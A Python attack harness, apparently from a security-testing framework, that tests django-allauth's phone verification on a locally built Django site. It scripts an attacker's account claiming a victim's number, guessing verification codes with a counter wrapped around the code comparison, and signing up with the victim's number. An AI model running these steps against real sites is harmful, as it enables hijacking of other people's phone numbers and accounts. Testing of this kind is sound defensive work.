"""Attacks on django-allauth: proving a new number on an account, and signing up with one.

The attacker has an account, enters somebody else's number there, and wants past its code.
"""

from __future__ import annotations

from typing import Any

import django_site
from attack import Browser, Target, Victim, main

PASSWORD = "the attacker's own, long one"

urlpatterns: list[Any] = []


class DjangoAllauth(Target):
    """Login by phone and password; limits, rates and the shape of codes as they come."""

    package = "django-allauth"
    beside = ("Django",)
    limit = 3
    alphabet = "BCDFGHJKLMNPQRSTVWXZ"
    code_length = 8
    sender = "anybody who signs up"

    def app(self) -> Any:
        """A site with the package's own views and templates."""
        application = django_site.build(
            self.database,
            ("allauth", "allauth.account"),
            ("allauth.account.middleware.AccountMiddleware",),
            AUTHENTICATION_BACKENDS=["allauth.account.auth_backends.AuthenticationBackend"],
            ACCOUNT_ADAPTER="allauth_adapter.Counting",
            ACCOUNT_LOGIN_METHODS={"phone"},
            ACCOUNT_SIGNUP_FIELDS=["phone*", "password1*"],
        )
        from allauth.account import forms
        from allauth_adapter import Counting
        from django.http import HttpResponse
        from django.urls import include, path

        Counting.meter = self.meter
        self._phones = Counting()
        urlpatterns.append(path("accounts/", include("allauth.urls")))
        urlpatterns.append(path("", lambda request: HttpResponse("in")))
        compare = forms.compare_user_code

        def counted(*, actual: str, expected: str) -> bool:
            if expected:
                self.meter.note_comparison()
            return bool(compare(actual=actual, expected=expected))

        forms.compare_user_code = counted
        return application

    def enrol(self, victim: Victim) -> None:
        """The attacker's own account, logged in; the victim's number is on none."""
        from django.contrib.auth import get_user_model

        own = f"+120255502{victim.number:02}"
        user = get_user_model().objects.create_user(f"attacker{victim.number}", password=PASSWORD)
        self._phones.set_phone(user, own, True)
        victim.data["mobile"] = f"+120255501{victim.number:02}"
        victim.browser.post("/accounts/login/", {"login": own, "password": PASSWORD})

    def ask(self, victim: Victim) -> None:
        """Enter the victim's number; resending is off by default."""
        victim.browser.post("/accounts/phone/change/", {"phone": victim.data["mobile"]})

    def guess(self, victim: Victim, code: str) -> bool:
        """Enter a code."""
        reply = victim.browser.post("/accounts/phone/verify/", {"code": code, "action": "verify"})
        return reply.status == 302 and self._owner(victim) is not None

    def come_again(self, victim: Victim) -> None:
        """The number is the account's now; take it away, so that a second use would show."""
        owner = self._owner(victim)
        if owner is not None:
            self._phones.set_phone(owner, f"+120255502{victim.number:02}", True)

    def flood(self, victim: Victim) -> None:
        """Sign up with the victim's number, in a new session."""
        stranger = Browser(victim.browser.port, victim.browser.address)
        form = {"phone": victim.data["mobile"], "password1": PASSWORD}
        stranger.post("/accounts/signup/", form)

    def _owner(self, victim: Victim) -> Any:
        """The account that has proved the victim's number, or None."""
        owner = self._phones.get_user_by_phone(victim.data["mobile"])
        return owner if owner is not None and self._phones.get_phone(owner)[1] else None


if __name__ == "__main__":
    main(DjangoAllauth)
